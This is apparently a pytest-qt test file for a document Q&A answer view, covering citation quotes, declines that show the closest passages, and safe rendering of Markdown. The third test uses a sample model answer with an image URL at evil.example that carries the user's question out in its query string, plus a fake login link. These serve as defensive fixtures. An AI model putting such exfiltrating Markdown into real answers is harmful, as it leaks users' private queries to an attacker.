"""The answer as a person sees it: quotes under the sources, declines with the closest passages, and Markdown
from the model that can neither load nor open anything."""

from __future__ import annotations

from PySide6.QtCore import QUrl
from pytestqt.qtbot import QtBot

from engine.api import Citation, Quote
from ui.messages import AnswerView

QUOTE = Quote(1, "IDL stands for Interface Description Language.", 180, 228, 2)
CITATION = Citation(1, "/docs/bindings.pdf", 2, 100, 300, "… IDL stands for Interface Description Language. …",
                    quotes=(QUOTE,))


def test_quotes_are_shown_under_their_source_and_a_click_opens_the_citation(qtbot: QtBot) -> None:
    view = AnswerView()
    qtbot.addWidget(view)
    view.finish("IDL stands for Interface Description Language [1].", [CITATION])
    assert "“IDL stands for Interface Description Language.”" in view.sources.text()
    assert "bindings.pdf" in view.sources.text() and "page 2" in view.sources.text()
    with qtbot.waitSignal(view.citation_clicked, timeout=1000) as clicked:
        view.body.anchorClicked.emit(QUrl("cite:1"))
    assert clicked.args == [CITATION]


def test_a_decline_lists_what_was_searched_and_the_closest_passages(qtbot: QtBot) -> None:
    view = AnswerView()
    qtbot.addWidget(view)
    near = Citation(1, "/docs/boat-club.pdf", 2, 0, 90, "Summer mooring costs 720 euros.")
    view.finish("I could not find the answer to this in your documents.", [],
                notice="I could not find the answer to this in your documents. I searched for: winter, storage.",
                closest=[near])
    assert "I searched for: winter, storage." in view.body.toPlainText()
    assert "Closest passages" in view.sources.text() and "boat-club.pdf" in view.sources.text()
    with qtbot.waitSignal(view.citation_clicked, timeout=1000) as clicked:
        view.sources.linkActivated.emit("near:1")
    assert clicked.args == [near]


def test_markdown_from_the_model_loads_nothing_and_links_show_their_target(qtbot: QtBot) -> None:
    view = AnswerView()
    qtbot.addWidget(view)
    exfiltrating = ("The answer is 42 [1]. ![chart](https://evil.example/pixel.png?q=the+secret+question) "
                    "See [the manual](https://evil.example/login) or <https://evil.example/x>.")
    view.finish(exfiltrating, [CITATION])
    rendered = view.body.toHtml()
    assert "<img" not in rendered and 'href="https://' not in rendered
    shown = view.body.toPlainText()
    assert "(image: chart)" in shown and "the manual (https:// evil.example/login)" in shown
    assert view.body.loadResource(2, QUrl("https://evil.example/pixel.png")) is None  # 2: an image resource
